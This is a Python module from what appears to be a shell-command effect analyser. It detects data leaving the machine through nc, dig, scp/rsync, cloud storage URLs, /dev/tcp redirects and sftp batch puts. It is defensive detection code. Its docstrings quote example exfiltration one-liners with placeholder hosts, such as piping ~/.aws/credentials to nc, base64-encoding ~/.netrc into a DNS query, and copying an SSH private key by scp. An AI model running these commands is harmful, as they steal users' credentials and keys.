"""What leaves the machine: a `send` effect for every program that hands what it is given to another host (a
connection opened by `nc`, a DNS query or ping carrying its words, a mail submitted, a copy to `host:path`,
bash's `/dev/tcp/HOST/PORT`), and the trees a pipeline carries through filters to such a program.

A send is judged by what the same line reads: a file of the home read by a line that sends is how data leaves
(`cat ~/.aws/credentials | nc host 9`, `dig $(base64 -w0 ~/.netrc).example`, `scp ~/.ssh/id_ed25519 host:`).
The line's reads are known as effects; which of them reach the send through pipes, substitutions or variables is
not followed, so a line that both reads a home's file and sends is judged as sending it (home_reach.reaches_home).
"""

from __future__ import annotations

import re
import socket
from typing import Any

from hookd.enrich.effects.ledger import CommandView, Ledger, Place
from hookd.enrich.effects.options import Parsed
from hookd.enrich.effects.program import Program
from hookd.enrich.effects.words import _dynamic

# scp(1)/rsync(1)/sftp(1)'s remote operands: `[user@]host:path` (a colon before any slash), `host::module` (an
# rsync daemon), and the URL forms `scp://`, `sftp://`, `rsync://`. rclone names its remotes `name:path`
# (https://rclone.org/docs/#syntax-of-remote-paths). A drive letter (`C:`) is a local path on no system we run on,
# so it is remote too: an unknown host name is what a colon before any slash means to these programs.
_REMOTE = re.compile(r"(?:[A-Za-z][A-Za-z0-9+.-]*://)|(?:[^/:]+::?)")
# a host as these programs resolve one: a name (a letter in it), a dotted address, `[IPv6]`; `0:root` (`--usermap`'s
# value), `23:59` or `*:users` read as operands are no host, so the word stays a local path
_HOST = re.compile(r"(?:[^@/:\s]*@)?(?:[A-Za-z0-9._-]*[A-Za-z.][A-Za-z0-9._-]*|\[[0-9A-Fa-f:.]+\])")
# object stores and file services named by URL (the clouds' CLIs: `aws s3 cp F s3://b/`, `gsutil cp F gs://b`,
# `azcopy … https://…blob…` is a fetch program's; rclone names remotes its own way: `sends_words`)
_STORAGE = re.compile(
    r"(?:s3|s3a|gs|az|abfss?|wasbs?|r2|b2|oss|cos|swift|hdfs|webhdfs|ftps?|sftp|scp|smb|davs?)://", re.I
)
_SOCKETS = ("/dev/tcp/", "/dev/udp/")  # bash(1), REDIRECTION: a connection opened by the shell itself


def remote_word(word: str) -> bool:
    """`word` names a file on another host, as a remote copy program reads its operands (`u@h:path`, `h:`,
    `rsync://h/m`); `./a:b`, `/x:y` and `a/b:c` are local (a slash before the colon), and so is a word whose part
    before the colon is no host (`0:root`)."""
    if not word or word.startswith(("-", "~")) or _REMOTE.match(word) is None:
        return False
    if "://" in word:
        return True
    before = word.split("]:", 1)[0] + "]" if word.startswith("[") or "@[" in word else word.split(":", 1)[0]
    return _HOST.fullmatch(before) is not None


# rclone's connection string (https://rclone.org/docs/#connection-strings): `:backend` and its parameters, each
# `,name` or `,name=value`, a value in quotes holding `,` or `:` (a quote inside doubled), then `:` and the path
_CONNECTION = re.compile(r""":([\w-]+)(?:,[^,:=]+(?:=(?:"(?:[^"]|"")*"|'(?:[^']|'')*'|[^,:"']*))?)*:""")


def backend_path(word: str, local_backends: frozenset[str]) -> str:
    """`word` as a program that reads connection strings reads it: the path itself when it names an on-the-fly
    remote of a local backend (`:local:/tmp/x`, `:local,links:dir`; no path: the directory it works in; a leading
    `~` is a directory of that name, as no shell expands it there), else the word as it is."""
    match = _CONNECTION.match(word) if local_backends and word.startswith(":") else None
    if match is None or match.group(1) not in local_backends:
        return word
    path = word[match.end() :] or "."
    return "./" + path if path.startswith("~") else path


def _host(word: str) -> str:
    """The host a remote operand or a network program's operand names (`u@h:path` → `h`)."""
    if "://" in word:
        word = word.split("://", 1)[1].split("/", 1)[0]
    return word.split(":", 1)[0].rpartition("@")[2]


# names of this machine itself (hosts(5)'s loopback entries, RFC 1122's 127/8, the machine's own name): a remote
# operand on one of them is a path of this machine, relative to the home the login lands in (scp(1), rsync(1))
_LOOPBACK = frozenset(
    {"localhost", "localhost.localdomain", "ip6-localhost", "ip6-loopback", "[::1]", "::1", "0.0.0.0"}
)


def this_machines_path(word: str, home: str) -> str | None:
    """The local path a remote operand names when its host is this machine (`localhost:.config/x`,
    `me@127.0.0.1:/etc/x`), else None (another host, a URL form, a daemon's module)."""
    if "://" in word or "::" in word.split("]", 1)[-1].split("/", 1)[0]:
        return None
    host = _host(word).lower()
    if host not in _LOOPBACK and not host.startswith("127.") and host != socket.gethostname().lower():
        return None
    path = word.split("]:", 1)[1] if "]:" in word else word.split(":", 1)[1]
    if path.startswith("/"):
        return path
    return f"{home}/{path.removeprefix('~/')}" if path not in ("", "~") else home


def network_sends(ledger: Ledger, program: Program, parsed: Parsed) -> None:
    """A program that talks to another host and carries what it is given (`nc`, `dig`, `ssh`, `sendmail`,
    `openssl s_client`, a cloud storage URL among its words: `aws s3 cp F s3://b/`): a send to the host its first
    operand names; not known when a word it carries is made at run time (`dig $(…).x`)."""
    words = [*parsed.operands, *(v for _, v in parsed.options if v)]
    talks = program.network or program.sends or program.remote_command
    talks = talks or any(parsed.operands[: len(w)] == list(w) for w in program.sends_words)
    if not talks and program.operands not in ("fetch", "fetch-first"):
        bucket = next((w for w in words if _STORAGE.match(w)), None)  # the words scanned once
        if bucket is not None:
            ledger.add("send", None, program.name, host=_host(bucket), known=not _dynamic(bucket))
            return
    if not talks:
        return
    after = next((len(w) for w in program.sends_words if parsed.operands[: len(w)] == list(w)), 0)
    host = next((w for w in parsed.operands[after:] if not w.startswith(("-", "+"))), "")  # dig's `+short` is no host
    built = any(_dynamic(w) for w in parsed.operands)  # what it carries is made when it runs
    ledger.add("send", None, program.name, host=_host(host), known=bool(host) and not built)


def remote_copy(
    ledger: Ledger, program: Program, operands: list[str], place: Place, name: str, how: tuple[bool, bool]
) -> bool:
    """A copy program's remote operands (`scp SRC… HOST:DEST`, `rsync -a HOST:SRC DEST`): the local sources of a
    copy to another host are read and sent; a remote source is fetched into the local destination, which loses what
    the sources lack under a sweep (`how`: recursive, `rsync --delete`). False when no operand is remote (then the
    copy is a local one, judged as `cp`'s)."""
    recursive, sweeps = how
    if not program.remote_operands or len(operands) < 2 or not any(remote_word(w) for w in operands):
        return _host_alone(program, operands)
    *sources, target = operands
    if remote_word(target) and (here := this_machines_path(target, ledger.home)) is not None:
        for word in sources:  # `scp F localhost:.config/x`: the copy lands in this machine's home
            ledger.add("copy", place(word), name, recursive=recursive, to=place(here))
        ledger.add("write", place(here), name, recursive=recursive)
        return True
    if remote_word(target):
        for word in sources:
            if not remote_word(word):
                ledger.add("read", place(word), name, recursive=recursive)
        ledger.add("send", None, name, host=_host(target), known=not _dynamic(target))
        return True
    for word in sources:
        if remote_word(word):
            ledger.add("fetch", None, name, url=word, known=not _dynamic(word))
        else:
            ledger.add("copy", place(word), name, recursive=recursive)
    fetched = [w for w in sources if remote_word(w)]
    if not recursive and len(fetched) == 1 and (target in (".", "..") or target.endswith("/")):
        target = target.rstrip("/") + "/" + fetched[0].rpartition(":")[2].rpartition("/")[2]  # `scp h:x.sh .`
    placed = place(target)
    effect = ledger.add("write", placed, name, recursive=recursive)
    if effect["path"]:
        ledger.produce(effect["path"], "fetch")
    if sweeps:  # `rsync -a --delete HOST:empty/ ~/`
        ledger.add("delete", placed, name, recursive=True, sweep=True)
    return True


def _host_alone(program: Program, operands: list[str]) -> bool:
    """`sftp HOST`, `rsync HOST:dir/`: the one operand is the other host, so nothing here is copied."""
    return program.remote_operands and len(operands) == 1 and (program.sends or remote_word(operands[0]))


def socket_redirect(ledger: Ledger, placed: dict[str, Any], name: str) -> bool:
    """`> /dev/tcp/HOST/PORT`, `< …`, `<> …` (and `/dev/udp`): bash opens a connection, no file (bash(1),
    REDIRECTION), and the command's output goes to it: a send to HOST; nothing is written, emptied or read on
    disk (before blind-shell-20 a `/dev/tcp` health check of the loopback was a raw device write, denied). What a
    shell then reads from it as its script is code from HOST (shell/stdin.held). False for any other path."""
    path = str(placed.get("path") or "")
    if not path.startswith(_SOCKETS):
        return False
    host = path.split("/")[3] if path.count("/") >= 3 else ""
    ledger.add("send", None, name, host=host, known=bool(host) and not _dynamic(host))
    return True


def carried_trees(
    trees: list[dict[str, Any]], effects: list[dict[str, Any]], program: Program | None, view: CommandView
) -> list[dict[str, Any]]:
    """The trees a filter hands on: what the command before it wrote to its stdout goes on to the next one
    (`tar c . | gzip | nc host 9`), unless the command writes a file (`| tar x -C dir`, `> out.tgz`), where it
    lands instead; `tee` does both. A network program's stdin goes to the host, not its stdout."""
    if not trees or (program is not None and (program.network or program.remote_command)):
        return []
    if view.name == "tee" and not any(">" in str(r.get("op") or "") for r in view.redirects):
        return trees
    return [] if any(e["op"] == "write" for e in effects) else trees


# The batch commands that send a local file: sftp(1)'s `put`, `mput`, `reput`, `append` LOCAL [REMOTE]; tftp(1)'s
# and ftp(1)'s `put`/`mput`/`append` LOCAL [REMOTE] (https://gtfobins.github.io/gtfobins/tftp/)
_PUTS = re.compile(r"^[ \t]*-?(?:put|mput|reput|append)(?:[ \t]+-[A-Za-z]+)*[ \t]+(\S+)", re.M)


def batch_puts(ledger: Ledger, program: Program, view: CommandView, place: Place) -> None:
    """The local files a batch on stdin sends (`sftp HOST <<< 'put ~/.aws/credentials'`, `printf 'put %s\n' F |
    tftp HOST`): each is read (`batch_puts`: sftp, tftp, ftp)."""
    if program.batch_puts and view.stdin == "text" and view.stdin_text:
        for match in _PUTS.finditer(view.stdin_text[:65536]):
            word = match.group(1)  # (sftp expands a leading `~` of a local path itself)
            ledger.add("read", place(ledger.home + word[1:] if word[:2] == "~/" else word), program.name)
